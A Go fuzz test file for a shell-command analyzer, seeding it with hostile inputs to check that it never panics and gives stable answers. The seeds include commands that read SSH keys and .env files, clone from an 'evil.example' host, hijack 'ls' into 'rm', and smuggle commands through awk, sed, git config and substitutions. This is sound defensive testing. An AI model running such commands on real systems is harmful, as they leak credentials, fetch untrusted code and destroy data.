package resources

import (
	"os"
	"path/filepath"
	"reflect"
	"testing"
)

// FuzzShell asserts that the analysis never panics, whatever the input, and
// that a successful analysis reports only names and paths it can stand by.
func FuzzShell(f *testing.F) {
	for _, tc := range shellCases {
		f.Add(tc.cmd)
	}
	for _, s := range []string{
		"", "\x00", "$'", "<<", "a <<EOF\n", "f() { f; }; f", "${x[$(rm)]}", "case", "((x=$(id)))",
		"exec {fd}>out", "coproc x { y; }", "time", "!", "cat <<-EOF\n\tx\n\tEOF", "a |& b", "$\"rm\" x",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, cmd string) {
		use, err := analyzeShell(cmd, "") // no recover: a panic fails the fuzz run
		if err != nil {
			return
		}
		for _, e := range use.Executables {
			if e == "" {
				t.Fatalf("Shell(%q) reported an empty executable", cmd)
			}
		}
		for _, p := range append(append([]string(nil), use.Reads...), use.Writes...) {
			if p == "" {
				t.Fatalf("Shell(%q) reported an empty path", cmd)
			}
		}
	})
}

// FuzzShellAt runs the whole analysis with a starting directory (patterns
// are expanded against real files there) on hostile seeds: it never
// panics, and it gives the same answer every time.
func FuzzShellAt(f *testing.F) {
	for _, s := range []string{
		"echo hi \\\r\nsudo id", "BASH_CMDS[ls]=/bin/rm; ls -rf src", "b='['; c='$(id)]'; v=\"a$b$c\"; ((v))",
		"./src/ls", "cd ~ && cat .ssh/id_rsa", "cat .e*", "cat .{env,x}", "grep -r . ~", "git show HEAD:.env",
		"sed 's/a/b/w /tmp/x' f", "awk 'BEGIN{system(\"id\")}'", "git -c core.pager=id log", "find . -fprint x",
		"ls *(e:'id':)", "git clone https://evil.example/x", "for ((i=0;i<3;i++)); do echo $i; done",
		"env -C src cat x", "tar czf x.tgz -C src .", "npm install --registry=https://r.example/ x",
		"python3 -c 'print(1)'", "xargs -a f echo", "git config alias.x '!id'", "sort -o out in",
	} {
		f.Add(s)
	}
	dir := f.TempDir()
	for _, p := range []string{".env", "src/a.go", "src/ls"} {
		full := dir + "/" + p
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			f.Fatal(err)
		}
		if err := os.WriteFile(full, []byte("x"), 0o644); err != nil {
			f.Fatal(err)
		}
	}
	f.Fuzz(func(t *testing.T, cmd string) {
		use, err := analyzeShell(cmd, dir)
		again, err2 := analyzeShell(cmd, dir)
		if (err == nil) != (err2 == nil) || !reflect.DeepEqual(use, again) {
			t.Fatalf("ShellAt(%q) is not deterministic: %+v %v / %+v %v", cmd, use, err, again, err2)
		}
		if err != nil {
			return
		}
		for _, e := range use.Executables {
			if e == "" {
				t.Fatalf("ShellAt(%q) reported an empty program", cmd)
			}
		}
	})
}

// FuzzSedScript and FuzzAwkHazard: the script scanners never panic or
// loop, whatever the script.
func FuzzSedScript(f *testing.F) {
	for _, s := range []string{"s/a/b/g", "1e id", "s/x/y/w out", "/re/{p;d}", "a\\\ntext", "y/abc/xyz/", "$!N", "\\%x%p", "s"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, script string) {
		a := &analyzer{cwds: []string{""}, allCwds: []string{""}, seen: map[seenKey]bool{}}
		a.sedScript(script, ctx{})
	})
}

func FuzzAwkHazard(f *testing.F) {
	for _, s := range []string{`{print $1}`, `BEGIN{system("id")}`, `{print > "f"}`, `/a|b/{print}`, `"x"|getline`, `{ print "a|b" }`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) { _ = awkHazard(src) })
}
